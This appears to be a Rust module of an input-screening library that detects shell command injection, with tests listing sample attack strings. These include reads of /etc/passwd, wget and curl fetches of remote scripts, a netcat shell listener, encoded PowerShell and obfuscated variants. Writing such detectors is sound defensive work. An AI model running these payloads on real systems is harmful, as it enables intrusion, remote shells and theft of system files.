//! Shells, of Unix and of Windows: does the text end one command and give another?
//!
//! What may begin a command is found first: a separator, a substitution, the start of the text. A command is
//! what is known by its name or is a path of a program, and what follows it as its arguments must look like
//! arguments; prose has the same signs and many of the same words.

mod argument;
mod command;
mod phrase;

use std::ops::Range;

use crate::classes::Classes;
use crate::found::{Look, Reason};
use crate::fuel::Fuel;
use crate::shell::argument::{Arguments, arguments};
use crate::shell::command::{Command, Known, command};

const SEPARATED: Reason = Reason {
    name: "shell-separator-then-command",
    text: "ends a command and gives the shell another",
};
const SUBSTITUTED: Reason = Reason {
    name: "shell-substitution",
    text: "has the shell run a command and put its output in place",
};
const BEGINS: Reason = Reason { name: "shell-command", text: "is a command with its arguments" };
const DISGUISED: Reason = Reason {
    name: "shell-disguised-command",
    text: "writes a command so that it does not look like one",
};

/// What may begin a command, as an end of line does; and what does it with a bracket behind.
const SIGNS: Classes = Classes::of_constant(b"&;|=\\`");
const OPENING: Classes = Classes::of_constant(b"$<>");
/// Reads of a text besides the one for phrases: for words, for separators, for what follows them.
const READS: usize = 3;
/// Words before a command, at most, where it need not be a dangerous one: prose has more.
const WORDS_BEFORE_MAX: usize = 3;

/// Looks for commands in `text`.
pub(crate) fn look(text: &str, classes: Classes, fuel: &mut Fuel) -> Look {
    fuel.burn(text.len())?;
    if let Some(found) = phrase::find(text, classes).or_else(|| begins(text)) {
        return Ok(Some(found));
    }
    let opens = classes.have_any(OPENING) && classes.have(b'(');
    if !classes.have_any(SIGNS) && !classes.have_line() && !opens {
        return Ok(None);
    }
    fuel.burn(text.len() * READS)?;
    let whole = Whole::of(text);
    for (at, _) in text.bytes().enumerate().filter(|(_, byte)| is_sign(*byte)) {
        let Some(start) = Start::of(text, at) else {
            continue;
        };
        let Some(command) =
            command(text, start.behind).filter(|command| command.known != Known::No)
        else {
            continue;
        };
        let arguments = arguments(text, command.behind);
        fuel.burn(arguments.end.saturating_sub(command.behind))?;
        if let Some(found) = start.judge(&whole, &command, &arguments, at > whole.prose) {
            return Ok(Some(found));
        }
    }
    Ok(None)
}

/// A text, and where what is not space begins and ends in it.
struct Whole<'a> {
    text: &'a str,
    /// The first byte that is neither space nor quote.
    first: usize,
    /// Where its first word ends.
    word: usize,
    /// Where one word more begins than stands before a command in what is no prose.
    prose: usize,
    /// The text without spaces around it.
    trimmed: Range<usize>,
}

impl<'a> Whole<'a> {
    fn of(text: &'a str) -> Self {
        let first = text.len() - text.trim_start_matches(['\'', '"', ' ']).len();
        let behind = text.get(first..).unwrap_or_default();
        let word = behind.find([' ', '\n']).unwrap_or(behind.len());
        let start = text.len() - text.trim_start().len();
        Self {
            text,
            first,
            word: first + word,
            prose: words(text).nth(WORDS_BEFORE_MAX).unwrap_or(text.len()),
            trimmed: start..text.trim_end().len(),
        }
    }
}

/// Where words of letters begin.
fn words(text: &str) -> impl Iterator<Item = usize> {
    let letter = |byte: &u8| byte.is_ascii_alphabetic() || *byte >= 0x80;
    let before = std::iter::once(b' ').chain(text.bytes());
    let begins = text.bytes().zip(before).enumerate();
    begins.filter_map(move |(at, (byte, before))| (letter(&byte) && !letter(&before)).then_some(at))
}

/// The first byte of what may begin a command.
const fn is_sign(byte: u8) -> bool {
    matches!(byte, b'&' | b';' | b'|' | b'\n' | b'\r' | b'=' | b'\\' | b'$' | b'<' | b'>' | b'`')
}

/// A place where a shell would begin a command.
#[derive(Debug, Clone, Copy)]
struct Start {
    sign: Sign,
    at: usize,
    behind: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sign {
    /// `;`, `|`, `||`, `&&`.
    Separator,
    /// `&` alone, which addresses have, too.
    Ampersand,
    /// An end of line, or how programs write one.
    Line,
    /// `=`, behind the name of a field.
    Assigned,
    /// `$(`, `<(`, `>(`.
    Substitution,
    /// A backtick, with which prose marks code, too.
    Backtick,
}

impl Start {
    fn of(text: &str, at: usize) -> Option<Self> {
        let bytes = text.as_bytes();
        let byte = *bytes.get(at)?;
        let next = bytes.get(at + 1).copied().unwrap_or(0);
        let (sign, length) = match byte {
            b'&' if next == b'&' => (Sign::Separator, 2),
            b'&' => (Sign::Ampersand, 1),
            b';' | b'|' => (Sign::Separator, 1),
            b'\n' | b'\r' => (Sign::Line, 1),
            b'=' => (Sign::Assigned, 1),
            b'\\' if matches!(next, b'n' | b'r') => (Sign::Line, 2),
            b'$' | b'<' | b'>' if next == b'(' => (Sign::Substitution, 2),
            b'`' => (Sign::Backtick, 1),
            _ => return None,
        };
        let behind = at + length;
        Some(Self { sign, at, behind })
    }

    fn judge(
        self,
        whole: &Whole<'_>,
        command: &Command,
        arguments: &Arguments,
        prose: bool,
    ) -> Option<(Reason, Range<usize>)> {
        if self.sign == Sign::Backtick && !self.opens_code(whole) {
            return None;
        }
        let span = self.at..arguments.end.max(command.behind);
        if command.disguised && self.sign != Sign::Assigned {
            return Some((DISGUISED, span));
        }
        // A line of many is a command only if nobody would write it by chance; the first is like a separator.
        let line = self.sign == Sign::Line && self.at > whole.first;
        let weak = self.sign == Sign::Assigned || line && self.at > whole.word;
        let sure = if prose || weak {
            dangerous(command, arguments)
        } else {
            self.plausible(command, arguments)
        };
        let reason = match self.sign {
            Sign::Substitution | Sign::Backtick => SUBSTITUTED,
            _ => SEPARATED,
        };
        sure.then_some((reason, span))
    }

    /// Whether a backtick is more than the mark of code in prose: it is all of the text, or stands within a word.
    fn opens_code(self, whole: &Whole<'_>) -> bool {
        let before = whole.text.get(..self.at).unwrap_or_default();
        let inside = whole.text.get(self.behind..).unwrap_or_default();
        let Some(close) = memchr::memchr(b'`', inside.as_bytes()) else {
            return false;
        };
        let all = whole.trimmed == (self.at..self.behind + close + 1);
        let close_before = before.strip_suffix(' ').unwrap_or(before);
        let tied = close_before.ends_with(['|', ';', '&', '=']) || before.ends_with("$(");
        all || tied || before.ends_with(|c: char| c.is_alphanumeric())
    }

    fn plausible(self, command: &Command, arguments: &Arguments) -> bool {
        let spaced = self.sign != Sign::Ampersand || !arguments.assigned;
        spaced
            && match command.known {
                Known::Sure => {
                    let few =
                        arguments.dotted || (1..=2).contains(&arguments.words) && arguments.ends;
                    let alone = arguments.none && command.acts;
                    arguments.hard || arguments.argued || alone || few && !command.filter
                }
                Known::Alone => arguments.hard || arguments.none,
                Known::English => {
                    let closed = arguments.closed && arguments.words <= 1;
                    arguments.hard || self.sign == Sign::Substitution && closed
                }
                Known::Waits => arguments.number,
                Known::Path => true,
                Known::No => false,
            }
    }
}

/// Whether a command is one that nobody writes about by chance.
fn dangerous(command: &Command, arguments: &Arguments) -> bool {
    command.known != Known::No && arguments.secret || command.known == Known::Path && command.shell
}

/// The text as a whole is a command, perhaps behind a quote.
fn begins(text: &str) -> Option<(Reason, Range<usize>)> {
    let start = text.len()
        - text.trim_start_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"').len();
    let command = command(text, start).filter(|command| command.known != Known::No)?;
    let arguments = arguments(text, command.behind);
    let only = text.trim_end().len() <= arguments.end || arguments.separated;
    let sure = match command.known {
        Known::Sure => arguments.argued || command.alone && arguments.none && only,
        Known::English | Known::Alone => arguments.argued && only,
        Known::Path => {
            arguments.argued || command.shell || only && arguments.none && command.program
        }
        Known::Waits | Known::No => false,
    };
    let line = arguments.end <= text.len() && !text.trim().contains('\n');
    (sure && line || command.disguised && arguments.argued)
        .then_some((BEGINS, start..arguments.end.max(command.behind)))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::look;
    use crate::classes::Classes;
    use crate::fuel::Fuel;
    use crate::tried::{found, passes};

    #[test]
    fn a_separator_and_a_command_are_found() {
        found(
            look,
            &[
                ";id",
                "a|id",
                "x && ls /etc",
                ";wget http://some_host/sh311.sh", // gotestwaf (MIT)
                "|getent+hosts+somehost.burpcollaborator.net.&",
                "| set /a 3482*7301",
                "127.0.0.1; cat /etc/passwd",
                "& ping -n 30 127.0.0.1 &",
                "\n/usr/bin/id\n",
                "cmd=cat /etc/passwd",
                "nice picture; thank you all for it; cat /etc/passwd",
            ],
        );
    }

    #[test]
    fn a_substitution_is_found() {
        found(
            look,
            &[
                "`id`",
                "$(whoami)",
                "--exec=`id`--remote=origin",
                "$(`cat /etc/passwd`)",
                "<(curl http://a.example/)",
            ],
        );
    }

    #[test]
    fn a_disguise_is_found() {
        found(
            look,
            &[
                ";c'a't /etc/passwd",
                "; w\\get http://a.example",
                ";getent$IFS$9hosts$IFS$9a.example", // gotestwaf (MIT)
                ";cat${IFS}/etc/passwd",
                ";/???/c?t /???/p??swd",
                "; cat /et'c/pa'ss'wd",
                "& p^ower^shell -enc AAAA",
            ],
        );
    }

    #[test]
    fn a_command_as_the_whole_text_is_found() {
        found(
            look,
            &[
                "cat /etc/passwd",
                "curl https://a.example/x.sh",
                "/bin/sh -c 'id'",
                "nc -lvvp 4444 -e /bin/sh",
                "type C:\\boot.ini",
                "powershell -enc AAAA",
                "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
                "whoami",
            ],
        );
    }

    #[test]
    fn prose_passes() {
        passes(
            look,
            &[
                "use grep | sort",
                "Use `grep -r foo .` to find it, then `sort`",
                "salt & pepper; cat & dog",
                "R&D; sleep well",
                "Jack | Jill | Bob",
                "home | date | time",
                "echo in the mirror", // gotestwaf (MIT)
                "ls 300 lexus",
                "nc 8000 controller",
                "curl and divergence",
                "$100 & more; more or less",
                "Terms & conditions; see id",
                "sudo make me a sandwich",
            ],
        );
    }

    #[test]
    fn addresses_and_code_pass() {
        passes(
            look,
            &[
                "https://example.com/?id=5&sort=asc&cat=3&type=x&date=2020-01-01&find=me",
                "data:image/png;base64,iVBORw0KGgo=",
                "a && b || c",
                "o o ,\n| .' \",\n(_)",
                "long f_free;    /* free file nodes in fs */",
                "cd build && cmake ..\nmake -j4\n",
                "C:\\Users\\bob\\file.txt",
                "&lt;b&gt;more&nbsp;sort",
            ],
        );
    }

    proptest! {
        #[test]
        fn any_text_is_read_within_its_fuel(text in "(\\PC|[;|&$`()<>\n'\"=\\/ catid1]){0,200}") {
            let mut fuel = Fuel::new(u64::MAX);
            if let Ok(Some((_, span))) = look(&text, Classes::of(&text), &mut fuel) {
                prop_assert!(text.get(span).is_some());
            }
            let burnt = u64::MAX - fuel.left();
            prop_assert!(burnt <= (text.len() * STEPS_A_BYTE_MAX) as u64);
        }
    }

    /// What a byte may cost, at most.
    const STEPS_A_BYTE_MAX: usize = 300;

    #[test]
    fn long_texts_cost_in_proportion() {
        for piece in ["a", ";cat ", "=cat", "`", " `", "; ", "$(", "\\n"] {
            let cost = |times: usize| {
                let text = piece.repeat(times);
                let mut fuel = Fuel::new(u64::MAX);
                look(&text, Classes::of(&text), &mut fuel).expect("fuel");
                u64::MAX - fuel.left()
            };
            assert!(cost(10_000) <= 11 * cost(1_000), "{piece}");
        }
    }

    #[test]
    fn an_empty_tank_is_no_verdict() {
        assert!(look(";id", Classes::of(";id"), &mut Fuel::new(3)).is_err());
    }
}
